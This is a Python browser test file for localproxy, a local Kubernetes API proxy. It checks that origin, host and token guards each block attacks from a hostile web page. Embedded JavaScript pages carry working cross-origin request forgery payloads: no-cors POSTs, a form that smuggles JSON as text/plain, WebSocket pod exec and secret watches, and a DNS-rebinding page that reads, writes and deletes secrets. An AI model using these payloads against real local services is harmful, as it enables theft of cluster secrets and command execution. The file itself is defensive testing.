# SPDX-License-Identifier: Apache-2.0
"""What a web page in a real browser on the same machine can do to localproxy: nothing, although its
scripts may send to any address; and each guard alone is enough."""

import base64
import hashlib
import json

import browser
import harness
import upstream

SECRET = b"hunter2-TOPSECRET"
EVIL = "evil.example"

# Each attack in turn; what the page could see of it is reported.
ATTACKS = """<!DOCTYPE html><title>page</title><script>
const plan = PLAN;
const config = name => JSON.stringify({apiVersion: 'v1', kind: 'ConfigMap', metadata: {name}});
function bounded(promise) {
  const late = new Promise(done => setTimeout(() => done('nothing came'), 3000));
  return Promise.race([promise, late]);
}
function post(base) {
  return fetch(base + '/configmaps', {method: 'POST', mode: 'no-cors', body: new Blob([config('blob')])})
    .then(answer => answer.type);
}
function get(base) {
  return fetch(base + '/secrets/get', {mode: 'no-cors'}).then(answer => answer.type);
}
function read(base) {
  return fetch(base + '/secrets/read').then(answer => answer.text());
}
function image(base) {
  return new Promise(done => {
    const element = new Image();
    element.onload = element.onerror = event => done(event.type);
    element.src = base + '/secrets/image';
  });
}
function form(base) {
  return new Promise(done => {
    const frame = document.createElement('iframe'), element = document.createElement('form');
    frame.name = 'of ' + base;
    Object.assign(element, {method: 'POST', action: base + '/forms', enctype: 'text/plain', target: frame.name});
    const field = document.createElement('input');
    Object.assign(field, {name: '{"a":"', value: '"}'});
    element.append(field);
    document.body.append(frame, element);
    frame.onload = () => done('loaded'); // not of what it begins with
    element.submit();
  });
}
function socket(path) {
  return base => new Promise(done => {
    const it = new WebSocket(base.replace('http:', 'ws:') + path, ['v4.channel.k8s.io']);
    it.onmessage = async event => done(await new Response(event.data).text());
    it.onerror = () => done('error');
  });
}
const attacks = {post, get, read, image, form, exec: socket('/pods/p/exec?command=id&stdout=true'),
                 watch: socket('/secrets?watch=true&resourceVersion=0')};
async function run(base) {
  const seen = {};
  for (const [name, attack] of Object.entries(attacks)) {
    seen[name] = String(await bounded(attack(base)).catch(error => error.name));
  }
  return seen;
}
async function main() {
  const seen = {};
  for (const [name, base] of Object.entries(plan.bases)) seen[name] = await run(base);
  await fetch(plan.report, {method: 'POST', mode: 'no-cors', body: JSON.stringify(seen)});
}
onload = main;
</script>"""

# Pages whose name is given to localproxy as soon as they are there.
FRAMES = """<!DOCTYPE html><title>page</title><script>
for (const url of PLAN.frames) {
  const frame = document.createElement('iframe');
  frame.src = url;
  document.documentElement.append(frame);
}
</script>"""

REBOUND = """<!DOCTYPE html><title>frame</title><script>
const plan = PLAN, tell = what => fetch(plan.report, {method: 'POST', mode: 'no-cors', body: JSON.stringify(what)});
const bounded = promise => Promise.race([promise, new Promise(done => setTimeout(() => done('late'), 3000))]);
async function ask(...args) {
  return bounded(fetch(...args).then(async a => a.status + ' ' + await a.text())).catch(error => error.name);
}
async function attack() {
  const base = '/api/v1/namespaces/' + plan.name, body = new Blob(['{}']);
  for (;;) {
    const status = await ask(plan.go);
    if (status.startsWith('200')) break;
    await new Promise(done => setTimeout(done, 50));
  }
  const read = await ask(base + '/secrets/rebound');
  const write = await ask(base + '/configmaps', {method: 'POST', body});
  const gone = await ask(base + '/secrets/rebound', {method: 'DELETE'});
  await tell({name: plan.name, read, write, gone});
}
onload = async () => { await tell({name: plan.name, ready: true}); await attack(); };
</script>"""


def with_plan(page, **plan):
    return page.replace("PLAN", json.dumps(plan))


def accept_key(key):
    """RFC 6455, section 4.2.2."""
    digest = hashlib.sha1((key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()
    return base64.b64encode(digest).decode()


class Guard:
    """A localproxy, of whose guards all are off but those that are named."""

    # Origin is not looked at, nor is Host; no token is asked for.
    OFF = {"origin": ["--accept-origin=*"], "host": [f"--accept-host={EVIL}"], "token": ["--token-file=off"]}

    def __init__(self, name, *guards):
        self.name = name
        self.guards = guards

    def args(self, token_file):
        args = [arg for guard, off in self.OFF.items() if guard not in self.guards for arg in off]
        return args + (["--token-file", token_file] if "token" in self.guards else [])


class BrowserTest(harness.TestCase):
    """Pages ask; what reaches the API server is what counts."""

    def setUp(self):
        super().setUp()
        self.assertIsNotNone(browser.PROGRAM, "chromium is missing: test/deps installs it")
        self.asked = []
        _, self.kubeconfig = self.plain_upstream(upstream.always(self.answer))
        self.token = self.path("token", "browser-test-token\n")

    def answer(self, peer, request):
        """As kube-apiserver does; of a WebSocket it lets pages of all origins open any."""
        self.asked.append(request)
        if request.get("Upgrade") == "websocket":
            headers = [("Upgrade", "websocket"), ("Connection", "Upgrade")]
            headers += [("Sec-WebSocket-Accept", accept_key(request.get("Sec-WebSocket-Key")))]
            headers += [("Sec-WebSocket-Protocol", "v4.channel.k8s.io")]
            peer.send_response_head(101, headers)
            peer.send(bytes([0x82, len(SECRET) + 1, 1]) + SECRET)
            peer.wait_closed()
        else:
            peer.respond(200, b'{"kind":"Secret","data":{"password":"' + SECRET + b'"}}\n')

    def asked_of(self, name):
        """What came through the localproxy of that name."""
        place = f"/namespaces/{name}/"
        return [(r.method, r.target.split(place)[1]) for r in self.asked if place in r.target]

    def start(self, guard, *args):
        args = ["--resume-doubt=0", *guard.args(self.token), *args]
        return self.proxy(None, self.kubeconfig, args, env={"CMESH_ACCEPT_ORIGIN": ""})

    def pages(self, pages, port=0):
        served = browser.Pages(pages, port)
        self.addCleanup(served.close)
        return served

    def browse(self, url):
        started = browser.Browser(self.folder, url, [EVIL])
        self.addCleanup(started.close)
        return started

    def refused_with(self, proxy):
        """The codes of which localproxy's log tells."""
        lines = [line for line in proxy.log().splitlines() if "refused a request" in line]
        return {line.split("code=")[1].split()[0] for line in lines}

    def test_a_page_of_another_origin(self):
        guards = [Guard("open"), Guard("by-origin", "origin"), Guard("by-token", "token"),
                  Guard("as-usual", "origin", "host", "token")]  # fmt: skip
        proxies = {guard.name: self.start(guard) for guard in guards}
        bases = {n: f"{p.url}/api/v1/namespaces/{n}" for n, p in proxies.items()}
        content = {}
        served = self.pages(content)
        here = f"http://127.0.0.1:{served.port}"
        content["/"] = with_plan(ATTACKS, bases=bases, report=here)
        self.browse(f"http://{EVIL}:{served.port}/")
        seen = served.report()
        # Without a guard they do it: what is refused below is not refused by the browser.
        self.assertEqual(
            [("POST", "configmaps"), ("GET", "secrets/get"), ("GET", "secrets/read"),
             ("GET", "secrets/image"), ("POST", "forms"),
             ("GET", "pods/p/exec?command=id&stdout=true"),
             ("GET", "secrets?watch=true&resourceVersion=0")],
            self.asked_of("open"),
        )  # fmt: skip
        written = next(r for r in self.asked if r.target == "/api/v1/namespaces/open/configmaps")
        self.assertIsNone(written.get("Content-Type"), "the API server takes it for JSON")
        self.assertIn(b'"name":"blob"', written.body)
        self.assertEqual("\x01" + SECRET.decode(), seen["open"]["exec"])
        self.assertEqual("TypeError", seen["open"]["read"], "the browser alone keeps this one")
        for name, code in (("by-origin", "403"), ("by-token", "401"), ("as-usual", "401")):
            self.assertEqual([], self.asked_of(name))
            self.assertEqual({code}, self.refused_with(proxies[name]))
            self.assertNotIn(SECRET.decode(), json.dumps(seen[name]))
            self.assertEqual(7, len(seen[name]))

    def test_a_page_whose_name_becomes_that_of_localproxy(self):
        """DNS rebinding: to the browser both are one origin, whose answers scripts may read."""
        guards = [Guard("open"), Guard("by-host", "host", "origin"), Guard("by-token", "token")]
        content = {}
        control = self.pages(content)
        here = f"http://127.0.0.1:{control.port}"
        ports = {guard.name: harness.free_port() for guard in guards}
        before = []
        for name, port in ports.items():
            plan = {"name": name, "report": here, "go": f"{here}/go-{name}"}
            before.append(self.pages({"/": with_plan(REBOUND, **plan)}, port))
        frames = [f"http://{EVIL}:{port}/" for port in ports.values()]
        content["/"] = with_plan(FRAMES, frames=frames)
        self.browse(f"http://{EVIL}:{control.port}/")
        self.assertEqual(set(ports), {control.report()["name"] for _ in ports})
        for page in before:
            page.close()
        for guard in guards:
            proxy = self.start(guard, "--listen", f"127.0.0.1:{ports[guard.name]}")
            content[f"/go-{guard.name}"] = "go"
            seen = control.report()
            self.assertEqual(guard.name, seen["name"])
            answers = {seen[what][:3] for what in ("read", "write", "gone")}
            if guard.name == "open":
                self.assertEqual({"200"}, answers)
                self.assertIn(SECRET.decode(), seen["read"])
                self.assertEqual(["GET", "POST", "DELETE"], [m for m, _ in self.asked_of("open")])
            else:
                self.assertEqual({"403" if guard.name == "by-host" else "401"}, answers)
                self.assertIn("cmesh: ", seen["read"])
                self.assertEqual([], self.asked_of(guard.name))
                self.assertEqual(answers, self.refused_with(proxy))


if __name__ == "__main__":
    harness.main()
